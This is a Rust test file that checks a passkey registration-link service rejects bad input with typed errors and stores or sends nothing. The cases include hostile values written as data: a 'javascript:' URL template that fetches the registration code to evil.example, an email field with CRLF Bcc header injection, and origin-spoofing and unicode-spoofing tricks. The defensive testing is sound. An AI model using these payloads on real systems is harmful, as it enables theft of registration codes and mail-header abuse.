//! Bad input: every case is a typed error and appends nothing.

use chrono::Duration;
use passkey_links::policy::{Policy, PolicyError};
use passkey_links::prelude::*;
use passkey_links::{LinkError, SecretConfigError};

use crate::scenarios::Fixture;

type Case<'a> = (&'a str, Result<(), Error>, &'a str);

fn ok<T>(result: Result<T, Error>) -> Result<(), Error> {
    result.map(|_| ())
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_bad_input_is_a_typed_error_and_appends_nothing() {
    let store = InMemoryStore::new();
    let f = Fixture::new(store.clone()).await;
    let s = &f.service;
    let sys = Caller::System;
    let org = Some(f.org_a.as_str());
    let long = "x".repeat(201);
    let human = |user_name: &str, display: &str, email: &str| AddHumanUserRequest {
        user_name: user_name.into(),
        display_name: display.into(),
        email: email.into(),
        is_email_verified: true,
        preferred_language: None,
        ..Default::default()
    };
    let v2 = |template: &str| CreatePasskeyRegistrationLinkRequest {
        user_id: f.ada.clone(),
        send_link: Some(SendLink {
            url_template: Some(template.into()),
        }),
        return_code: None,
    };
    let add = |user: &str| AddPasswordlessRegistrationRequest {
        user_id: user.into(),
    };
    let before = store.len();
    let cases: Vec<Case> = vec![
        (
            "empty user id",
            ok(s.add_passwordless_registration(&sys, None, add("")).await),
            "Errors.IDMissing",
        ),
        (
            "oversized user id",
            ok(s.add_passwordless_registration(&sys, None, add(&long))
                .await),
            "Errors.Invalid.ID",
        ),
        (
            "control character in user id",
            ok(s.add_passwordless_registration(&sys, None, add("u\u{7}1"))
                .await),
            "Errors.Invalid.ID",
        ),
        (
            "whitespace in org context",
            ok(
                s.add_passwordless_registration(&sys, Some("org a"), add(&f.ada))
                    .await,
            ),
            "Errors.Invalid.ID",
        ),
        (
            "right-to-left override in a user id",
            ok(
                s.add_passwordless_registration(&sys, None, add(&format!("{}\u{202E}", f.ada)))
                    .await,
            ),
            "Errors.Invalid.ID",
        ),
        (
            "bidi isolates around a user id",
            ok(s.update_user(
                &sys,
                None,
                &format!("\u{2066}{}\u{2069}", f.ada),
                UserChange::Lock,
            )
            .await),
            "Errors.Invalid.ID",
        ),
        (
            "zero-width space in an org context",
            ok(
                s.add_passwordless_registration(&sys, Some("org\u{200B}a"), add(&f.ada))
                    .await,
            ),
            "Errors.Invalid.ID",
        ),
        (
            "zero-width joiner in a code id",
            ok(s.check_code(
                serde_json::from_value(serde_json::json!({
                    "userId": f.ada, "codeId": "c\u{200D}1", "code": "x"
                }))
                .unwrap(),
            )
            .await),
            "Errors.Invalid.ID",
        ),
        (
            "byte order mark in a new user id",
            ok(s.add_human_user(
                &sys,
                org,
                AddHumanUserRequest {
                    user_id: Some("\u{FEFF}eve".into()),
                    ..human("eve", "Eve", "eve@example.com")
                },
            )
            .await),
            "Errors.Invalid.ID",
        ),
        (
            "trailing whitespace in a new org id",
            ok(s.add_org(
                &sys,
                AddOrgRequest {
                    name: "Initech".into(),
                    org_id: Some("initech ".into()),
                },
            )
            .await),
            "Errors.Invalid.ID",
        ),
        (
            "leading no-break space in a user id",
            ok(
                s.add_passwordless_registration(&sys, None, add(&format!("\u{00A0}{}", f.ada)))
                    .await,
            ),
            "Errors.Invalid.ID",
        ),
        (
            "the code in the template's host",
            ok(
                s.create_passkey_registration_link(&sys, v2("https://{{.Code}}.id.example.com/"))
                    .await,
            ),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "oversized user name",
            ok(
                s.add_human_user(&sys, org, human(&long, "A", "a@example.com"))
                    .await,
            ),
            "Errors.User.Invalid",
        ),
        (
            "oversized display name",
            ok(
                s.add_human_user(&sys, org, human("a", &long, "a@example.com"))
                    .await,
            ),
            "Errors.User.Invalid",
        ),
        (
            "control character in a name",
            ok(
                s.add_human_user(&sys, org, human("a\nb", "A", "a@example.com"))
                    .await,
            ),
            "Errors.User.Invalid",
        ),
        (
            "right-to-left override in a display name",
            ok(
                s.add_human_user(&sys, org, human("a", "Ada\u{202E}nimda", "a@example.com"))
                    .await,
            ),
            "Errors.User.Invalid",
        ),
        (
            "zero-width space in a user name",
            ok(
                s.add_human_user(&sys, org, human("a\u{200B}da", "A", "a@example.com"))
                    .await,
            ),
            "Errors.User.Invalid",
        ),
        (
            "leading whitespace in a display name",
            ok(
                s.add_human_user(&sys, org, human("a", " Ada", "a@example.com"))
                    .await,
            ),
            "Errors.User.Invalid",
        ),
        (
            "a byte-order mark in an org name",
            ok(s.add_org(
                &sys,
                AddOrgRequest {
                    name: "\u{FEFF}ACME".into(),
                    ..Default::default()
                },
            )
            .await),
            "Errors.User.Invalid",
        ),
        (
            "oversized email",
            ok(s.add_human_user(
                &sys,
                org,
                human("a", "A", &format!("{}@example.com", "a".repeat(250))),
            )
            .await),
            "Errors.User.Email.Invalid",
        ),
        (
            "invalid email",
            ok(s.add_human_user(&sys, org, human("a", "A", "not-an-email"))
                .await),
            "Errors.User.Email.Invalid",
        ),
        (
            "recipient injection",
            ok(s.add_human_user(
                &sys,
                org,
                human("a", "A", "a@example.com\r\nBcc: x@evil.example"),
            )
            .await),
            "Errors.User.Email.Invalid",
        ),
        (
            "two recipients",
            ok(s.update_user(
                &sys,
                None,
                &f.ada,
                UserChange::ChangeEmail {
                    email: "a@example.com,b@evil.example".into(),
                },
            )
            .await),
            "Errors.User.Email.Invalid",
        ),
        (
            "oversized org name",
            ok(s.add_org(
                &sys,
                AddOrgRequest {
                    name: long.clone(),
                    ..Default::default()
                },
            )
            .await),
            "Errors.User.Invalid",
        ),
        (
            "unknown placeholder",
            ok(
                s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{.Secret}}"))
                    .await,
            ),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "unbalanced braces",
            ok(
                s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{.Code}"))
                    .await,
            ),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "stray closing braces",
            ok(
                s.create_passkey_registration_link(&sys, v2("https://id.example.com/}}{{.Code}}"))
                    .await,
            ),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "template action",
            ok(
                s.create_passkey_registration_link(&sys, v2("https://id.example.com/{{range .}}"))
                    .await,
            ),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "javascript scheme",
            ok(s.create_passkey_registration_link(
                &sys,
                v2("javascript:fetch('//evil.example/'+'{{.Code}}')"),
            )
            .await),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "foreign origin",
            ok(
                s.create_passkey_registration_link(&sys, v2("https://evil.example/{{.Code}}"))
                    .await,
            ),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "userinfo origin trick",
            ok(s.create_passkey_registration_link(
                &sys,
                v2("https://id.example.com@evil.example/{{.Code}}"),
            )
            .await),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "plain http template",
            ok(
                s.create_passkey_registration_link(&sys, v2("http://id.example.com/{{.Code}}"))
                    .await,
            ),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "oversized template",
            ok(s.create_passkey_registration_link(
                &sys,
                v2(&format!(
                    "https://id.example.com/{}{{{{.Code}}}}",
                    "a".repeat(190)
                )),
            )
            .await),
            "Errors.User.InvalidURLTemplate",
        ),
        (
            "both v2 media",
            ok(s.create_passkey_registration_link(
                &sys,
                CreatePasskeyRegistrationLinkRequest {
                    user_id: f.ada.clone(),
                    send_link: Some(SendLink::default()),
                    return_code: Some(ReturnCode {}),
                },
            )
            .await),
            "Errors.Invalid.Argument",
        ),
    ];
    for (name, result, key) in cases {
        let err = result.expect_err(name);
        assert_eq!(err.kind(), ErrorKind::InvalidArgument, "{name}: {err:?}");
        assert_eq!(err.message_key(), key, "{name}: {err:?}");
    }
    assert_eq!(store.len(), before, "nothing appended");
    assert!(f.notifier.delivered().is_empty(), "nothing sent");
}

#[test]
fn bad_configuration_is_refused_with_typed_errors() {
    assert_eq!(
        BaseUrl::parse("http://id.example.com"),
        Err(LinkError::InsecureScheme)
    );
    assert_eq!(
        BaseUrl::parse("id.example.com"),
        Err(LinkError::NotAbsolute)
    );
    let policy = Policy::default();
    for ttl in [
        Duration::minutes(4),
        Duration::hours(25),
        Duration::zero(),
        Duration::minutes(-5),
    ] {
        assert_eq!(
            policy.clone().with_lifetime(ttl),
            Err(PolicyError::Lifetime),
            "{ttl}"
        );
    }
    assert!(matches!(
        SecretConfig::new(12, true, true, true, false),
        Err(SecretConfigError::TooWeak { .. })
    ));
    for tolerance in [Duration::seconds(-1), Duration::minutes(11)] {
        assert_eq!(
            Policy::default().with_clock_skew_tolerance(tolerance),
            Err(PolicyError::ClockSkewTolerance)
        );
    }
    assert!(matches!(
        SecretConfig::new(18, true, false, false, false),
        Err(SecretConfigError::TooWeak { .. })
    ));
}
